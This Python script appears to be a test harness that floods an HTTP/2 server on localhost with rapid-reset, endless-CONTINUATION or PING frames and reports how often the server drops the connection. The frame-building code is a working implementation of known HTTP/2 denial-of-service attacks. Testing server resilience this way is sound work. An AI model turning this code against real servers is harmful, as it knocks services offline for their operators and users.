"""Abuses an HTTP/2 server by prior knowledge for some seconds, on one connection after the other:
floods.py PORT SECONDS rapid_reset|continuation|ping"""

import json
import socket
import struct
import sys
import time

#: Frames in one write.
BATCH = 64
#: Longest wait for a server that neither reads nor ends the connection, in seconds.
STUCK_SECONDS = 1
END_STREAM, END_HEADERS = 1, 4
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: GET /small of http://localhost, in HPACK without its dynamic table (RFC 7541 section 6.2.2).
SECTION = b"\x82\x86\x04\x06/small\x01\x09localhost"
CANCEL = struct.pack(">I", 8)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113 section 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def rapid_reset(number: int) -> bytes:
    """Requests that are taken back at once; the `number`-th batch of its connection."""
    first = 2 * BATCH * number + 1
    return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, SECTION) + frame(RST_STREAM, 0, stream, CANCEL)
                    for stream in range(first, first + 2 * BATCH, 2))


def continuation(number: int) -> bytes:
    """A head that never ends."""
    begin = frame(HEADERS, END_STREAM, 1, SECTION) if number == 0 else b""
    return begin + frame(CONTINUATION, 0, 1) * BATCH


def ping(_: int) -> bytes:
    """Questions whether it is alive."""
    return frame(PING, 0, 0, b"are you?") * BATCH


FLOODS = {"rapid_reset": rapid_reset, "continuation": continuation, "ping": ping}


def has_ended(connection: socket.socket) -> bool:
    """Takes what has come without waiting; whether the server has ended the connection."""
    connection.setblocking(False)
    try:
        while connection.recv(1 << 16):
            pass
        return True
    except BlockingIOError:
        return False
    finally:
        connection.settimeout(STUCK_SECONDS)


def flood(port: int, batch, deadline: float) -> tuple[int, bool]:
    """One connection: (batches that went out, whether the server ended it before the deadline)."""
    number = 0
    try:
        with socket.create_connection(("127.0.0.1", port), STUCK_SECONDS) as connection:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            while time.monotonic() < deadline:
                connection.sendall(batch(number))
                number += 1
                if has_ended(connection):
                    return number, True
    except TimeoutError:
        return number, False
    except OSError:
        return number, True
    return number, False


def main() -> None:
    """Prints how much went out and how often the server had enough."""
    port, seconds, kind = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    begin = time.monotonic()
    batches = connections = ended = 0
    while time.monotonic() < begin + seconds:
        sent, was_ended = flood(port, FLOODS[kind], begin + seconds)
        batches, connections, ended = batches + sent, connections + 1, ended + was_ended
    print("load-figures", json.dumps({"batches": batches, "connections": connections, "ended": ended,
                                      "duration_us": int((time.monotonic() - begin) * 1e6)}))


if __name__ == "__main__":
    main()
